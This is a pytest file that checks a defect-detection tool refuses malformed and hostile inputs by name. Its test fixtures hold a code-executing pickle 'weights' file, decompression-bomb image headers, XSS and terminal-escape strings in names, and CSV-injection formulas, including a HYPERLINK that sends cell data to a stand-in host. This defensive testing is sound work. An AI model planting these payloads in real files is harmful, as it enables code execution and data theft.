"""A corpus of bad inputs, made here, through every entry point: each bad file or option gets an answer
that names it, never a traceback, and the good inputs beside it are still processed."""
import json
import os
import pickle
import sqlite3
import struct
import subprocess
import sys
import zlib
from pathlib import Path

import cv2
import numpy as np
import pytest
import torch
import yaml

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ["crack <script>alert(1)</script>", 'dent "quoted" & co', "Ölfleck ☢"]
# every field within its own bound, together 2.25 billion parameters
HUGE = {"name": "sdgasnet-n", "num_classes": 6, "width": 2.0, "depth": 2.0, "neck_p3": 1024, "neck_p4": 2048,
        "mfa_hidden": 2048}


def _run(tmp_path, *args, timeout=300):
    env = {**os.environ, "SDGAS_HOME": str(tmp_path / "home")}
    r = subprocess.run([sys.executable, str(ROOT / "main.py"), *map(str, args)], capture_output=True, text=True,
                       env=env, timeout=timeout)
    assert "Traceback" not in r.stderr and "Traceback" not in r.stdout, (args, r.stderr[-2000:])
    return r


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    """images/ (good and bad), a YOLO dataset over them with bad labels and hostile class names,
    bad weights files, bad records files."""
    root = tmp_path_factory.mktemp("corpus")
    img = root / "data" / "images" / "train"
    lab = root / "data" / "labels" / "train"
    img.mkdir(parents=True)
    lab.mkdir(parents=True)
    good = []
    for i in range(4):
        cv2.imwrite(str(img / f"good{i}.png"), np.full((64, 64, 3), 60 * i, np.uint8))
        (lab / f"good{i}.txt").write_text(f"{i % 3} 0.5 0.5 0.3 0.3\n")
        good.append(f"good{i}.png")
    cv2.imwrite(str(img / "bom.png"), np.full((64, 64, 3), 77, np.uint8))
    (lab / "bom.txt").write_text("\ufeff1 0.5 0.5 0.3 0.3\n", encoding="utf-8")   # as Notepad saves it: good
    good.append("bom.png")
    ok, jpg = cv2.imencode(".jpg", np.full((64, 64, 3), 99, np.uint8))
    (img / "truncated.jpg").write_bytes(jpg.tobytes()[:200])
    (img / "empty.png").write_bytes(b"")
    (img / "random.jpg").write_bytes(os.urandom(3000))
    (img / "text.png").write_text("this is not an image")
    ihdr = struct.pack(">IIBBBBB", 90000, 90000, 8, 2, 0, 0, 0)
    (img / "bomb.png").write_bytes(b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + ihdr +
                                   struct.pack(">I", zlib.crc32(b"IHDR" + ihdr)) + b"\0" * 32)
    bad_labels = {"badlabel0": "0 0.5 0.5\n", "badlabel1": "x 0.5 0.5 0.1 0.1\n", "badlabel2": "9 0.5 0.5 0.1 0.1\n",
                  "badlabel3": "0 nan 0.5 0.1 0.1\n"}
    for stem, txt in bad_labels.items():
        cv2.imwrite(str(img / f"{stem}.png"), np.full((64, 64, 3), 20, np.uint8) + len(stem))
        (lab / f"{stem}.txt").write_text(txt)
    (root / "data" / "data.yaml").write_text(yaml.safe_dump({"path": str(root / "data"), "train": "images/train",
                                                            "val": "images/train", "names": HOSTILE}))
    w = root / "weights"
    w.mkdir()
    (w / "empty.pt").write_bytes(b"")
    (w / "random.pt").write_bytes(os.urandom(5000))
    (w / "text.pt").write_text("not weights")

    class Evil:
        def __reduce__(self):
            return (os.system, ("echo pwned > " + str(root / "pwned"),))

    (w / "code.pt").write_bytes(pickle.dumps(Evil()))
    torch.save({"conv.weight": torch.zeros(3)}, w / "foreign.pt")
    torch.save({"format": "sdgas-checkpoint", "version": 1, "model": {}, "names": "abc",
                "model_config": {"name": "sdgasnet-n", "num_classes": "many"}}, w / "crafted.pt")
    torch.save({"format": "sdgas-checkpoint", "version": 1, "model": {}, "names": ["a"] * 6, "imgsz": 640,
                "model_config": HUGE}, w / "huge.pt")     # 4 KB, each field in bounds: a model of 9 GB
    rec = root / "records"
    rec.mkdir()
    (rec / "text.sqlite").write_text("not a database")
    con = sqlite3.connect(rec / "foreign.sqlite")
    con.execute("CREATE TABLE orders (id INTEGER)")
    con.commit()
    con.close()
    return {"root": root, "data": root / "data" / "data.yaml", "images": img, "good": good,
            "bad_images": ["truncated.jpg", "empty.png", "random.jpg", "text.png", "bomb.png"],
            "bad_labels": list(bad_labels), "weights": sorted(w.iterdir()), "records": sorted(rec.iterdir())}


def test_dataset_check_and_convert_name_every_bad_file_and_keep_the_good(corpus, tmp_path):
    r = _run(tmp_path, "dataset", "check", corpus["data"])
    assert r.returncode == 1
    for name in corpus["bad_images"] + corpus["bad_labels"]:
        assert name in r.stdout, name
    r = _run(tmp_path, "dataset", "convert", corpus["data"], "--to", "coco", "--out", tmp_path / "c")
    assert r.returncode == 0, r.stderr
    doc = json.loads((tmp_path / "c" / "train.json").read_text())
    assert {Path(i["file_name"]).stem for i in doc["images"]} == {Path(g).stem for g in corpus["good"]}
    assert [c["name"] for c in doc["categories"]] == HOSTILE


def test_predict_and_inspect_go_through_a_folder_of_bad_images(corpus, tmp_path):
    r = _run(tmp_path, "predict", "--weights", "demo", "--source", corpus["images"], "--json", tmp_path / "p.json",
             "--quiet")
    assert r.returncode == 0, r.stderr
    for name in corpus["bad_images"]:
        assert name in r.stderr, name
    rows = json.loads((tmp_path / "p.json").read_text())
    assert sum(1 for x in rows if not x.get("error")) == len(corpus["good"]) + len(corpus["bad_labels"])
    r = _run(tmp_path, "inspect", "--weights", "demo", "--source", corpus["images"], "--db", tmp_path / "i.sqlite")
    assert r.returncode == 0, r.stderr
    con = sqlite3.connect(tmp_path / "i.sqlite")
    errs = dict(con.execute("SELECT frame, error FROM inspections WHERE verdict = 'ERROR'").fetchall())
    assert {Path(f).name for f in errs} >= set(corpus["bad_images"]) and all(errs.values())


def test_val_and_train_use_the_good_samples_and_report_the_rest(corpus, tmp_path):
    r = _run(tmp_path, "train", "--data", corpus["data"], "--epochs", "1", "--imgsz", "64", "--batch", "2",
             "--workers", "0", "--out", tmp_path / "t", "--set", "max_iters=1", "--set", "precise_bn_images=2")
    assert r.returncode == 0, r.stderr[-2000:]
    assert "truncated.jpg" in r.stdout
    r = _run(tmp_path, "val", "--weights", tmp_path / "t" / "weights" / "last.pt", "--data", corpus["data"])
    assert r.returncode == 0, r.stderr
    assert "bomb.png" in r.stdout + r.stderr
    r = _run(tmp_path, "val", "--weights", "demo", "--data", corpus["data"])   # other classes: said, by name
    assert r.returncode == 1 and "differ from the model" in r.stderr


@pytest.mark.parametrize("which", ["empty.pt", "random.pt", "text.pt", "code.pt", "foreign.pt", "crafted.pt", "huge.pt"])
def test_bad_weights_are_one_line_answers_naming_the_file(corpus, tmp_path, which):
    w = next(p for p in corpus["weights"] if p.name == which)
    r = _run(tmp_path, "predict", "--weights", w, "--source", corpus["images"] / "good0.png")
    assert r.returncode == 1 and which in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert not (corpus["root"] / "pwned").exists()


@pytest.mark.parametrize("which", ["text.sqlite", "foreign.sqlite"])
def test_bad_records_files_are_refused_by_name(corpus, tmp_path, which):
    db = next(p for p in corpus["records"] if p.name == which)
    before = db.read_bytes()
    r = _run(tmp_path, "inspect", "--weights", "demo", "--source", "demo", "--db", db, "--max-frames", "2")
    assert r.returncode == 1 and which in r.stderr
    r = _run(tmp_path, "report", "--db", db, "--format", "json", "--out", tmp_path / "r.json")
    assert r.returncode == 1 and which in r.stderr
    assert db.read_bytes() == before


def test_the_gui_loaders_answer_by_name(corpus, qtbot, tmp_path, monkeypatch):
    pytest.importorskip("pytestqt")
    monkeypatch.setenv("SDGAS_HOME", str(tmp_path / "home"))
    from app.label.label_view import LabelView
    from app.services.model_service import ModelService
    from app.train.run_dialog import RunDialog
    from core.settings import Settings

    svc = ModelService()
    for w in corpus["weights"]:
        with qtbot.waitSignal(svc.failed, timeout=30000) as sig:
            svc.load(str(w))
        assert w.name in sig.args[0]
    lv = LabelView(Settings())
    qtbot.addWidget(lv)
    lv.open_path(str(corpus["images"] / "text.png"))
    qtbot.waitUntil(lambda: "text.png" in lv.header.text(), timeout=20000)
    lv.open_path(str(corpus["data"]))
    qtbot.waitUntil(lambda: lv.project is not None and lv.model.rowCount() > 0, timeout=20000)
    lv.filter_box.setCurrentText("with problems")
    qtbot.waitUntil(lambda: lv.model.rowCount() == len(corpus["bad_labels"]) - 1 or lv.model.rowCount() > 0)
    assert all(lv.model.item(i).problem for i in range(lv.model.rowCount()))
    lv.shutdown()
    dlg = RunDialog("teacher", [], tmp_path / "runs", data=str(corpus["data"]))
    qtbot.waitUntil(lambda: dlg.checked is not None or bool(dlg.check_error), timeout=60000)
    assert dlg.checked and dlg.checked["problems"] and not dlg.start_btn.isEnabled()
    assert any("bomb.png" in p for p in dlg.checked["problems"])


# ------------------------------------------------------------------------------ inputs that flood memory
_DECODE = r"""
import resource, struct, sys
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))    # 1 GiB: decoding any of these would fail
sys.path.insert(0, {root!r})
from pathlib import Path
import numpy as np
from core.data.imageio import ImageError, read_image
for f in sys.argv[1:]:
    try:
        print(Path(f).name, "decoded", read_image(f).shape)
    except ImageError as e:
        print(Path(f).name, "refused", e)
"""


def _jpeg_with_late_frame_header(w, h, pad_kb=120):
    """A JPEG whose size marker comes after ``pad_kb`` KB of APP1 segments (a camera's metadata)."""
    ok, jpg = cv2.imencode(".jpg", np.full((16, 16, 3), 128, np.uint8))
    jpg = jpg.tobytes()
    app = b"".join(b"\xff\xe1" + struct.pack(">H", 60002) + b"\0" * 60000 for _ in range(pad_kb // 60))
    big = jpg[:2] + app + jpg[2:]
    i = big.index(b"\xff\xc0")
    return big[:i + 5] + struct.pack(">HH", h, w) + big[i + 9:]


def _tiff(w, h):
    """An uncompressed 8-bit grey TIFF that declares w x h (its strip is one byte)."""
    tags = [(256, 4, 1, w), (257, 4, 1, h), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 138),
            (277, 3, 1, 1), (278, 4, 1, h), (279, 4, 1, 1), (284, 3, 1, 1)]
    ifd = struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", *t) for t in tags) + struct.pack("<I", 0)
    return b"II*\0" + struct.pack("<I", 8) + ifd + b"\0"


def test_images_declaring_a_huge_size_are_refused_before_any_decoding(tmp_path):
    """The size comes from the whole header (a JPEG's frame header after 120 KB of metadata, a
    TIFF's directory), checked before decoding: under a 1 GiB memory limit each is refused by name,
    and the same JPEG layout at a normal size still decodes."""
    files = {"late_sof.jpg": _jpeg_with_late_frame_header(30000, 30000), "late_sof_ok.jpg": _jpeg_with_late_frame_header(16, 16),
             "huge.tif": _tiff(30000, 30000)}
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    r = subprocess.run([sys.executable, "-c", _DECODE.format(root=str(ROOT)), *(str(tmp_path / n) for n in files)],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr[-2000:]
    said = dict(line.split(" ", 1) for line in r.stdout.strip().splitlines())
    for name in ("late_sof.jpg", "huge.tif"):
        assert said[name].startswith("refused") and name in said[name] and "too large" in said[name] \
            and "not decoded" in said[name], said[name]
    assert said["late_sof_ok.jpg"] == "decoded (16, 16, 3)"


def test_an_exported_model_declaring_a_huge_image_size_is_refused_by_name(tmp_path):
    """An ONNX file whose metadata says 21600 px would make a 5.6 GB input for each frame."""
    import onnx
    from onnx import TensorProto, helper

    from core.infer.backends import open_backend, read_metadata

    meta = {"names": ["scratch"], "imgsz": 21600, "preprocess": {"imgsz": 21600, "stride": 32}}
    x = helper.make_tensor_value_info("images", TensorProto.FLOAT, [1, 3, 21600, 21600])
    y = helper.make_tensor_value_info("output", TensorProto.FLOAT, [1, 3, 21600, 21600])
    m = helper.make_model(helper.make_graph([helper.make_node("Identity", ["images"], ["output"])], "g", [x], [y]),
                          opset_imports=[helper.make_opsetid("", 17)])
    m.ir_version = 8
    helper.set_model_props(m, {"sdgas": json.dumps(meta)})
    onnx.save(m, tmp_path / "huge.onnx")
    for load in (read_metadata, open_backend):
        with pytest.raises(ValueError, match="huge.onnx.*imgsz.*21600"):
            load(tmp_path / "huge.onnx")


def test_a_small_checkpoint_asking_for_a_huge_model_is_refused_with_the_numbers(tmp_path):
    """Sizes come from the product of the fields: parameters (width, depth, channels), and the memory
    one image needs (an attention backbone at 4096 px: quadratic in pixels, 3 M parameters)."""
    from core.model.checkpoint import CheckpointError, load_model, save_checkpoint
    from core.model.architecture import model_config
    from core.model.network import SDGASNet
    from core.model.size import MAX_ACTIVATION_BYTES, MAX_PARAMS, PRESET_CLASSES, model_size

    save_checkpoint(tmp_path / "huge.pt", {}, {"names": ["a"] * 6, "imgsz": 640, "model_config": HUGE})
    with pytest.raises(CheckpointError, match=r"huge.pt.*2,250,530,282 parameters \(9.0 GB\)"):
        load_model(tmp_path / "huge.pt")
    save_checkpoint(tmp_path / "attention.pt", {}, {"names": ["a"], "imgsz": 4096, "model_config": {
        "name": "sdgasnet-n", "num_classes": 1, "width": 2.0, "depth": 0.05, "backbone": "mlvt"}})
    with pytest.raises(CheckpointError, match=r"attention.pt.*4096x4096 image would need .* GB of activations"):
        load_model(tmp_path / "attention.pt")
    for name in ("sdgasnet-n", "sdgasnet-s", "sdgasnet-t"):    # the presets that skip the trace do fit
        s = model_size(model_config(name, PRESET_CLASSES), 4096, SDGASNet)
        assert s.params < MAX_PARAMS and s.activation_bytes < MAX_ACTIVATION_BYTES, (name, s)


# --------------------------------------------------------------------------------------- clear answers
def test_a_voc_size_that_is_not_the_image_s_is_reported(tmp_path):
    from core.data.catalog import open_dataset
    from core.data.validate import validate

    (tmp_path / "images").mkdir()
    (tmp_path / "annotations").mkdir()
    for stem, (w, h) in {"same": (64, 48), "resized": (128, 96)}.items():
        cv2.imwrite(str(tmp_path / "images" / f"{stem}.jpg"), np.full((48, 64, 3), 90, np.uint8))
        (tmp_path / "annotations" / f"{stem}.xml").write_text(
            f"<annotation><filename>{stem}.jpg</filename><size><width>{w}</width><height>{h}</height>"
            "<depth>3</depth></size><object><name>scratch</name><bndbox><xmin>10</xmin><ymin>10</ymin>"
            "<xmax>40</xmax><ymax>40</ymax></bndbox></object></annotation>")
    samples, report = validate(open_dataset(tmp_path), "train")
    said = [f"{f}: {why}" for f, why in report.problems]
    assert any("resized.xml" in p and "128x96" in p and "64x48" in p for p in said), said
    assert not any("same.xml" in p and "image size" in p for p in said)
    assert [s.image.name for s in samples] == ["same.jpg"]


@pytest.mark.parametrize("case", ["demo:abc", "db folder", "db device", "newline"])
def test_the_cli_answers_name_the_thing_and_the_reason_on_one_line(tmp_path, case):
    if case == "demo:abc":
        r = _run(tmp_path, "predict", "--weights", "demo", "--source", "demo:abc")
        assert r.returncode == 2 and "demo:N" in r.stderr and "'abc'" in r.stderr and "invalid literal" not in r.stderr
    elif case.startswith("db"):
        db = tmp_path if case == "db folder" else Path("/dev/null")
        r = _run(tmp_path, "inspect", "--weights", "demo", "--source", "demo", "--db", db, "--max-frames", "1")
        assert r.returncode == 1 and f"{db}: " in r.stderr and "unexpected" not in r.stderr, r.stderr
        assert ("is a folder" if case == "db folder" else "not a regular file") in r.stderr
    else:    # file names with a newline, a tab and an escape sequence: one line each, shown escaped
        cv2.imwrite(str(tmp_path / "a\nb.png"), np.full((64, 64, 3), 90, np.uint8))
        (tmp_path / "bad\tx\x1b[2J.jpg").write_text("not an image")
        r = _run(tmp_path, "predict", "--weights", "demo", "--source", tmp_path, "--conf", "0.99")
        assert r.returncode == 0
        assert "a\\nb.png: 0 detection(s)" in r.stdout and "bad\\tx\\x1b[2J.jpg: not a decodable image" in r.stderr
        assert "\x1b" not in r.stdout + r.stderr
        assert all(line.startswith(str(tmp_path)) for line in r.stderr.splitlines()), r.stderr
        assert len(r.stdout.splitlines()) == 2, r.stdout


def test_labels_that_could_belong_to_two_images_are_named_never_moved(tmp_path):
    """A COCO id given to two images, a VOC x.jpg beside x.png (one x.xml): check names the images
    and why; convert keeps every box on its own image and never hands one to the other. A YOLO
    label saved with a byte-order mark reads as any other."""
    def img(p, v):
        p.parent.mkdir(parents=True, exist_ok=True)
        cv2.imwrite(str(p), np.full((40, 60, 3), v, np.uint8))

    coco = tmp_path / "coco"
    for i, n in enumerate(("a.png", "b.png", "c.png")):
        img(coco / "images" / n, 40 * i)
    (coco / "train.json").write_text(json.dumps({
        "categories": [{"id": 1, "name": "crack"}],
        "images": [{"id": 7, "file_name": "a.png"}, {"id": 7, "file_name": "b.png"}, {"id": 8, "file_name": "c.png"}],
        "annotations": [{"id": 1, "image_id": 7, "category_id": 1, "bbox": [1, 1, 10, 10]},
                        {"id": 2, "image_id": 8, "category_id": 1, "bbox": [5, 5, 10, 10]}]}))
    r = _run(tmp_path, "dataset", "check", coco)
    assert r.returncode == 1 and "image id 7" in r.stdout and "a.png and b.png" in r.stdout, r.stdout
    r = _run(tmp_path, "dataset", "convert", coco, "--to", "yolo", "--out", tmp_path / "coco-y")
    assert r.returncode == 0, r.stderr
    labels = {p.stem: p.read_text() for p in (tmp_path / "coco-y" / "labels").rglob("*.txt")}
    assert set(labels) == {"c"} and labels["c"].startswith("0 0.166667 0.250000")

    voc = tmp_path / "voc"
    img(voc / "images" / "x.jpg", 10)
    img(voc / "images" / "x.png", 20)
    img(voc / "images" / "y.png", 30)
    (voc / "annotations").mkdir()
    (voc / "annotations" / "x.xml").write_text(
        "<annotation><filename>x.png</filename><object><name>crack</name><bndbox><xmin>2</xmin><ymin>3</ymin>"
        "<xmax>20</xmax><ymax>30</ymax></bndbox></object></annotation>")
    (voc / "annotations" / "y.xml").write_text("<annotation><filename>y.png</filename></annotation>")
    r = _run(tmp_path, "dataset", "check", voc)
    assert r.returncode == 1 and "x.jpg shares" in r.stdout and "x.png" in r.stdout, r.stdout
    r = _run(tmp_path, "dataset", "convert", voc, "--to", "coco", "--out", tmp_path / "voc-c")
    assert r.returncode == 0, r.stderr
    doc = json.loads((tmp_path / "voc-c" / "train.json").read_text())
    files = {i["id"]: i["file_name"] for i in doc["images"]}
    assert sorted(files.values()) == ["x.png", "y.png"]
    assert [files[a["image_id"]] for a in doc["annotations"]] == ["x.png"]
    from core.data.annotation import Annotation, Box
    from core.labels.project import LabelProject

    for data, shut, kept, label in ((voc, "x.jpg", "x.png", voc / "annotations" / "x.xml"),
                                    (coco, "a.png", "c.png", coco / "train.json")):
        p = LabelProject.open(data)               # the labelling view: shown with the problem, never saved over
        by = {it.image.name: it for it in p.items}
        assert by[shut].problem and not by[kept].problem, by[shut]
        before = label.read_bytes()
        with pytest.raises(ValueError, match=shut):
            p.save(by[shut], Annotation(60, 40, [Box(0, 1, 1, 9, 9)], "labelled"))
        assert label.read_bytes() == before

    yolo = tmp_path / "yolo"
    img(yolo / "images" / "b.png", 50)
    (yolo / "labels").mkdir()
    (yolo / "labels" / "b.txt").write_bytes("\ufeff0 0.5 0.5 0.2 0.2\r\n".encode())
    (yolo / "data.yaml").write_text(yaml.safe_dump({"path": str(yolo), "train": "images", "val": "images",
                                                    "names": ["crack"]}))
    r = _run(tmp_path, "dataset", "check", yolo / "data.yaml")
    assert "non-numeric" not in r.stdout and "1 usable, 0 skipped" in r.stdout, r.stdout


# ------------------------------------------------------------------------------ inputs that hang
@pytest.mark.timeout(150)
def test_a_fifo_named_like_an_image_in_a_watched_folder_is_one_error_row_and_sigterm_still_stops(tmp_path):
    """Opening a FIFO waits for a writer that never comes: it is never opened. It is one ERROR row
    naming it and the reason, not read again at each poll, the files after it are judged, and
    SIGTERM still ends `inspect` cleanly."""
    import signal
    import time

    from helpers import record_rows, tiny_weights

    w = tiny_weights(tmp_path, imgsz=64)
    folder = tmp_path / "in"
    folder.mkdir()
    for n in ("a.png", "c.png"):
        cv2.imwrite(str(folder / n), np.full((64, 64, 3), 90, np.uint8))
    os.mkfifo(folder / "b.jpg")
    db = tmp_path / "r.sqlite"
    env = {**os.environ, "SDGAS_HOME": str(tmp_path / "home")}
    p = subprocess.Popen([sys.executable, str(ROOT / "main.py"), "inspect", "--weights", str(w), "--source",
                          str(folder), "--watch", "--db", str(db)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                         text=True, env=env)
    try:
        deadline = time.time() + 90
        while time.time() < deadline and len(record_rows(db)) < 3 and p.poll() is None:
            time.sleep(0.2)
        time.sleep(2.0)                       # a few polls of the folder: the FIFO is not tried again
        p.send_signal(signal.SIGTERM)
        out, err = p.communicate(timeout=30)
    finally:
        p.kill()
    assert p.returncode == 0 and "Traceback" not in err, err[-2000:]
    rows = record_rows(db)
    assert [r for r in rows if r[1] == "ERROR"] == [("b.jpg", "ERROR", "not a regular file (a FIFO)")], rows
    assert sorted(r[0] for r in rows if r[1] != "ERROR") == ["a.png", "c.png"], rows
    assert "3 frames" in out, out


@pytest.mark.timeout(300)
def test_fifos_in_a_dataset_and_a_predict_folder_are_named_and_never_opened(tmp_path):
    """A FIFO as an image or as a label file: dataset check, predict and val go on and name it."""
    from helpers import tiny_weights

    d = tmp_path / "data"
    (d / "images").mkdir(parents=True)
    (d / "labels").mkdir()
    for n in ("a", "c"):
        cv2.imwrite(str(d / "images" / f"{n}.png"), np.full((64, 64, 3), 90, np.uint8))
    for n in ("a", "b"):
        (d / "labels" / f"{n}.txt").write_text("0 0.5 0.5 0.2 0.2\n")
    os.mkfifo(d / "images" / "b.jpg")
    os.mkfifo(d / "labels" / "c.txt")
    (d / "data.yaml").write_text(yaml.safe_dump({"path": str(d), "train": "images", "val": "images",
                                                 "names": ["crazing"]}))
    r = _run(tmp_path, "dataset", "check", d / "data.yaml", timeout=120)
    assert "b.jpg: not a regular file (a FIFO)" in r.stdout, r.stdout
    assert "c.txt: label file unreadable: not a regular file (a FIFO)" in r.stdout, r.stdout
    assert "1 usable" in r.stdout, r.stdout
    w = tiny_weights(tmp_path, imgsz=64)
    r = _run(tmp_path, "predict", "--weights", w, "--source", d / "images", "--json", tmp_path / "p.json", "--quiet",
             timeout=120)
    assert r.returncode == 0 and "b.jpg: not a regular file (a FIFO)" in r.stderr, r.stderr
    assert sorted(Path(x["image"]).name for x in json.loads((tmp_path / "p.json").read_text())
                  if not x.get("error")) == ["a.png", "c.png"]


@pytest.mark.timeout(150)
def test_report_thumbnails_that_cannot_be_shown_are_placeholders_with_the_reason(tmp_path):
    """NG images recorded as a FIFO (reading it would hang the report), a file since deleted, and a
    JPEG whose header declares 30000 x 30000 (a 2.7 GB decode): the report is written at once, each
    with a placeholder and the reason; the ordinary image beside them is shown."""
    from core.inspect.records import InspectionRecord, RecordsWriter

    good = tmp_path / "good.png"
    cv2.imwrite(str(good), np.full((80, 80, 3), 90, np.uint8))
    fifo = tmp_path / "pipe.jpg"
    os.mkfifo(fifo)
    huge = tmp_path / "huge.jpg"
    huge.write_bytes(_jpeg_with_late_frame_header(30000, 30000))
    db = tmp_path / "r.sqlite"
    w = RecordsWriter(str(db))
    for i, p in enumerate((good, fifo, tmp_path / "gone.png", huge)):
        w.add(InspectionRecord(ts=f"2026-12-06T07:0{i}:00.000+00:00", source="cam", frame=p.name, verdict="NG",
                               image_path=str(p), detections=[(0, "crazing", 0.9, 5, 5, 40, 40, 1)]))
    w.close()
    r = _run(tmp_path, "report", "--db", db, "--format", "html", "--out", tmp_path / "r.html", timeout=120)
    assert r.returncode == 0, r.stderr
    html = (tmp_path / "r.html").read_text()
    assert f"{fifo} <span class='ng'>(not shown: not a regular file (a FIFO))</span>" in html
    assert "gone.png <span class='ng'>(not shown: file not found)</span>" in html
    assert f"{huge} <span class='ng'>(not shown: image too large (900,000,000 pixels" in html and "not decoded" in html
    assert f"{good}</span>" in html
    r = _run(tmp_path, "report", "--db", db, "--format", "pdf", "--out", tmp_path / "r.pdf", timeout=120)
    assert r.returncode == 0, r.stderr


def test_every_csv_neutralises_cells_a_spreadsheet_would_run(tmp_path):
    """OWASP's rule, in the report CSVs (from folder, file, model and class names), the audit export and
    a training run's results.csv: read back, each such cell starts with a quote; numbers stay numbers."""
    import csv
    from types import SimpleNamespace

    from core.inspect.audit import export_audit
    from core.inspect.records import InspectionRecord, RecordsWriter
    from core.report import make_report
    from core.train.callbacks import ResultsCsv

    evil = ["=cmd|' /C calc'!A0", "=2+5", "+SUM(1+1)", '=HYPERLINK("http://x.example/?a="&A1,"click")', "-1+1",
            "@SUM(1)", "\t=1+1", "\r=1+1"]
    db = tmp_path / "r.sqlite"
    w = RecordsWriter(str(db))
    for i, e in enumerate(evil):
        w.add(InspectionRecord(ts=f"2026-12-06T07:0{i}:00.000+00:00", source=e, frame=e, verdict="NG", model_id=e,
                               image_path=f"{e}/{e}.png", detections=[(0, e, 0.9, 1, 2, 30, 40, 1)]))
    w.audit(evil[0], {"conf": evil[1]}, evil[3])
    w.close()

    def cells(path):
        with open(path, newline="", encoding="utf-8") as f:
            return list(csv.reader(f))

    ins, det = make_report(db, "csv", tmp_path / "r.csv")
    rows, drows = cells(ins), cells(det)
    for e in evil:
        assert sum(r[2] == r[3] == r[6] == "'" + e and r[11] == f"'{e}/{e}.png" for r in rows[1:]) == 1, (e, rows)
        assert sum(r[3] == "'" + e for r in drows[1:]) == 1, (e, drows)
    assert all(float(r[4]) == 0.9 and float(r[7]) == 30 for r in drows[1:])     # numbers stay numbers
    audit = cells(export_audit(db, "csv", tmp_path / "audit.csv")[0])
    flat = [c for r in audit for c in r]
    assert "'" + evil[0] in flat and "'" + evil[3] in flat and evil[0] not in flat
    run = tmp_path / "run"
    run.mkdir()
    ResultsCsv()(SimpleNamespace(run_dir=run, history=[{"epoch": 1, "note": evil[1], "val/loss": -0.5}]), "epoch", {})
    assert cells(run / "results.csv") == [["epoch", "note", "val/loss"], ["1", "'" + evil[1], "-0.5"]]
    for path in (ins, det, tmp_path / "audit.csv", run / "results.csv"):
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in cells(path) for c in r
                       if not _number(c)), path


def _number(s: str) -> bool:
    try:
        float(s)
        return True
    except ValueError:
        return False
